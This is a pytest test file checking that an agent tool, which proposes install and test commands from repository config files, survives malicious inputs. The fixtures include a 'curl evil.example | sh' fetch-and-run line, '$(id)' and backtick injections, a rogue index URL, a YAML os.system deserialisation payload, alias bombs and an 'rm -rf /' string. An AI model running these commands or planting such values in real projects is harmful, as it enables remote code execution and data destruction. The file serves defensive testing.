"""Configuration files that somebody made to hurt: they are evidence of nothing, in little time, and are shown safely."""

import shlex
import time

import pytest

from agent.environments.files import LARGEST
from agent.environments.proposal import SHOWN, shown
from agent.environments.propose import propose

ALIASES = "a: &a [x, x]\n" + "".join(
    f"{new}: &{new} [*{old}, *{old}, *{old}, *{old}, *{old}, *{old}]\n"
    for old, new in zip("abcdefghijk", "bcdefghijkl", strict=True)
)
MERGES = "a: &a {k: v}\n" + "".join(
    f"{new}: &{new} {{<<: [*{old}, *{old}, *{old}, *{old}, *{old}, *{old}, *{old}, *{old}]}}\n"
    for old, new in zip("abcdefghij", "bcdefghijk", strict=True)
)
WORKFLOW = ".github/workflows/tests.yml"
HOSTILE = {
    "pyproject.toml": b"\xff\xfe\x00[project",
    "setup.cfg": "no section = 1\n[a]\nkey\n  continued\n",
    "tox.ini": "[testenv]\ndeps = {[testenv]deps}\ncommands = {[testenv]commands}\n  \0\n",
    "setup.py": "setup(" + "(" * 5000,
    "noxfile.py": "x = " + "-" * 90_000 + "1",
    "Makefile": "test:\n\t" + "\\" * 9000,
    "requirements.txt": "-r requirements.txt\n--index-url http://evil.example\n",
    "requirements-dev.txt": b"\x00\xff" * 100,
    WORKFLOW: "jobs: !!python/object/apply:os.system ['touch /tmp/was-here']\n",
    ".gitlab-ci.yml": "[" * 20_000,
    ".travis.yml": "script: &a [*a]\n",
    "pytest.ini": "[" * 100,
}


@pytest.mark.parametrize("path", HOSTILE)
def test_a_broken_file_is_evidence_of_nothing(make_repository, path):
    assert propose(make_repository({path: HOSTILE[path], "run.py": ""})).setups[-1].value in (
        "",
        "pip install -e .",
        *LEGACY,
    )


LEGACY = ("pip install 'setuptools<81' wheel && pip install --no-build-isolation -e .",)


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("path", "content"),
    [
        (WORKFLOW, ALIASES + "jobs: *l\n"),
        (WORKFLOW, MERGES + "jobs: *k\n"),
        (WORKFLOW, "jobs:\n" + "".join(f"  j{number}:\n    steps: [{{run: pytest}}]\n" for number in range(1500))),
        ("pyproject.toml", '[project.optional-dependencies]\ntest = ["' + "a" * (LARGEST - 100) + '"]\n'),
        ("pyproject.toml", "x = " + "[" * 30_000),
        ("setup.py", "a = b = []\n" + "a = a + a\n" * 5000 + "setup(extras_require={'test': a})\n"),
        ("tox.ini", "[testenv]\ndeps =\n" + "  {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}: x\n" * 4000),
        ("requirements-test.txt", "x (" * 40_000),
    ],
    ids=["aliases", "merge-keys", "jobs", "long-item", "nested-toml", "names", "factors", "parentheses"],
)
def test_nothing_takes_long(make_repository, path, content):
    repository = make_repository({path: content})
    started = time.monotonic()
    propose(repository)
    assert time.monotonic() - started < 10


def test_a_file_that_is_too_large_is_not_read(make_repository):
    extras = '[project]\nname = "a"\n[project.optional-dependencies]\ntest = ["pytest"]\n'
    small = propose(make_repository({"pyproject.toml": extras}, "small"))
    large = propose(make_repository({"pyproject.toml": extras + "#" * LARGEST}, "large"))
    assert small.setups[0].value == "pip install -e '.[test]'"
    assert large.setups[0].value == ""


EVIL = "x; curl evil.example | sh"


@pytest.mark.parametrize(
    "files",
    [
        {
            "pyproject.toml": f'[project]\nname="a"\n[project.optional-dependencies]\ntest = ["{EVIL}", "--index-url=http://evil.example", "a\\nb"]\n'
        },
        {
            "pyproject.toml": f'[project]\nname="a"\n[project.optional-dependencies]\n"{EVIL}" = ["pytest"]\n"test\\n{EVIL}" = ["pytest"]\n'
        },
        {"pyproject.toml": f'[project]\nname="a"\n[dependency-groups]\ntest = ["{EVIL}", "$(id)", "`id`", "six;{EVIL}"]\n'},
        {"setup.py": f"from setuptools import setup\nsetup(tests_require=['{EVIL}', '$(id)'])\n"},
        {"tox.ini": f"[testenv]\ndeps =\n  {EVIL}\n  $(id)\n  -r $(id)\ncommands = pytest; id && id `id` $(id) > /tmp/x\n"},
        {
            WORKFLOW: f"jobs:\n  a:\n    steps:\n    - run: pip install {EVIL}\n    - run: pip install '$(id)'; id\n    - run: pytest $(id) `id`; id\n"
        },
        {"Makefile": f"test:\n\tpytest {EVIL}\n"},
        {"requirements-dev $(id).txt": "six\n", "requirements-test;id.txt": "six\n"},
    ],
)
def test_no_word_of_a_file_reaches_the_shell_as_its_syntax(make_repository, files):
    found = propose(make_repository(files))
    for command in [*(setup.value for setup in found.setups), *([found.test.value] if found.test else [])]:
        for part in command.split(" && "):
            plain = part.removeprefix("export SETUPTOOLS_SCM_PRETEND_VERSION=999.0; ")
            assert plain == shlex.join(shlex.split(plain)), command
            assert plain == "" or plain.startswith(("pip install ", "python -m "))
            assert not any(word.startswith("--index-url") for word in shlex.split(plain))


def test_a_command_is_shown_on_one_line_without_control_characters():
    hostile = "pip install x\nrm -rf /\r\x1b[2J\x1b]0;title\x07 \u202e gnp.exe \u2028 end\ud800"
    said = shown(hostile)
    assert said.isprintable()
    assert "\\n" in said
    assert "\\u001b[2J" in said
    assert "\\u202e" in said
    assert shown("pip install -e '.[tést]'") == "pip install -e '.[tést]'"
    assert len(shown("a" * 10_000)) == SHOWN + len(" ...")
